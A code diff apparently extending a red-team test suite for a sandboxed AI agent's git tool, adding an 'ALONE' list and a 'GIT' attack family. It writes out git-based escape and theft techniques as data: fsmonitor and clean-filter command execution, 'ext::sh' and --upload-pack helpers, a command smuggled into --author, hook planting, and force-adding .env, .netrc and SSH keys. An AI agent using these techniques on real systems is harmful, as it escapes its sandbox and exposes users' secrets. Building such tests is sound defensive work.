@@ -25,6 +25,9 @@ const sh = (command: string, more: object = {}): Call => ({
   tool: 'run_command',
   input: { command, ...more }
 });
+const git = (...args: readonly string[]): Call => ({ tool: 'git', input: { args } });
+/** Leaves its trace where it runs outside of the sandbox: only there is the variable. */
+const PLANT = 'test -n "$PLANTED" && touch "$PLANTED"';
 const write = (path: string, content: string): Call => ({
   tool: 'write_file',
   input: { path, content }
@@ -409,10 +412,93 @@ const MISUSING: readonly Attack[] = [
   }
 ];
 
+/** Words that the git tool does not take, or that lead nowhere; one a turn, since a turn ends with the third in a row. */
+const ALONE: readonly (readonly [
+  name: string,
+  args: (world: RedTeamWorld) => readonly string[]
+])[] = [
+  ['compares with the file of secrets', () => ['diff', '--no-index', '/dev/null', '.env']],
+  ['searches outside of the repository', () => ['grep', '--no-index', 'NAME']],
+  ['searches what is not in the repository', () => ['grep', '--untracked', '-e', 'NAME']],
+  ['writes a log to a file outside', w => ['log', `--output=${w.root}/planted`]],
+  ['applies a patch outside', () => ['apply', '--unsafe-paths', '../neighbour.txt']],
+  ['blames the file of secrets', () => ['blame', '--contents', '.env', 'data.txt']],
+  ['sets a monitor for one call', () => ['-c', `core.fsmonitor=${PLANT}`, 'status']],
+  ['sets a monitor for good', () => ['config', 'core.fsmonitor', PLANT]],
+  ['sets a monitor for every repository', () => ['config', '--global', 'core.fsmonitor', PLANT]],
+  ['makes a repository by a template', () => ['init', '--template=src']],
+  ['adds a submodule', () => ['submodule', 'add', './src']],
+  ['adds a working tree outside', () => ['worktree', 'add', '../planted']],
+  ['hides a command in an author', () => ['commit', '-m', 'x', '--author=$(touch ran-planted)']],
+  ['rebases with a command', () => ['rebase', '--exec', PLANT, 'HEAD']],
+  ['fetches from an address', w => ['fetch', `http://127.0.0.1:${w.port}/x`]],
+  ['lists what is at an address', w => ['ls-remote', `http://127.0.0.1:${w.port}/x`]],
+  ['pushes to an address', w => ['push', `http://127.0.0.1:${w.port}/x`, 'HEAD']],
+  ['fetches by a helper', () => ['fetch', `ext::sh -c "${PLANT}"`]],
+  ['fetches by a program', () => ['fetch', '--upload-pack', PLANT, 'origin']],
+  ['pulls with a rebase', () => ['pull', '--rebase=interactive', 'origin']]
+];
+
+/** What the git tool is asked for, which alone may write to the repository. */
+const GIT: readonly Attack[] = [
+  {
+    name: 'adds the file of secrets and shows it',
+    calls: () => [
+      git('add', '-f', '.env', '.netrc', 'id_ed25519'),
+      git('show', ':.env'),
+      git('diff', '--cached'),
+      git('commit', '-m', 'x'),
+      git('show', 'HEAD')
+    ]
+  },
+  {
+    name: 'has a filter of the tree plant while files are added',
+    calls: () => [
+      write('src/plant.sh', PLANT),
+      write('.gitattributes', '*.txt filter=plant\n'),
+      sh('git config filter.plant.clean "sh src/plant.sh"'),
+      git('add', 'notes.txt'),
+      git('stash')
+    ],
+    effective: w => w.runsWithGit()
+  },
+  {
+    name: 'makes a folder of the tree a repository that the next git enters',
+    calls: () => [
+      sh(`git init -q src/sub; cd src/sub && git config core.fsmonitor '${PLANT}'`),
+      sh(
+        'cd src/sub && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add -f . 2>/dev/null; true'
+      ),
+      git('add', '-f', 'src/sub'),
+      git('commit', '-m', 'x')
+    ],
+    effective: w => w.runsWithGit()
+  },
+  {
+    name: 'checks out what a branch brings over protected files',
+    calls: () => [
+      git('checkout', '-b', 'planted'),
+      sh('mkdir -p /tmp/t && echo planted > /tmp/t/settings.json'),
+      git('checkout', 'HEAD', '--', '.git/config'),
+      git('mv', 'data.txt', '.git/hooks/post-checkout'),
+      git('mv', '.vscode', 'away')
+    ],
+    effective: w =>
+      w.read('.git/hooks/post-checkout') !== '' || w.read('.vscode/settings.json') !== '{}'
+  },
+  ...ALONE.map(([name, args]): Attack => ({
+    name,
+    calls: w => [git(...args(w))],
+    effective: w =>
+      w.runsWithGit() || w.wasCalled() || w.neighbours().join() !== 'demo,neighbour.txt'
+  }))
+];
+
 /** Every attack, by what it is after. */
 export const ATTACKS: readonly (readonly [family: string, attacks: readonly Attack[]])[] = [
   ['steals', STEALING],
   ['plants', PLANTING],
   ['destroys', DESTROYING],
-  ['misuses', MISUSING]
+  ['misuses', MISUSING],
+  ['has git do it', GIT]
 ];
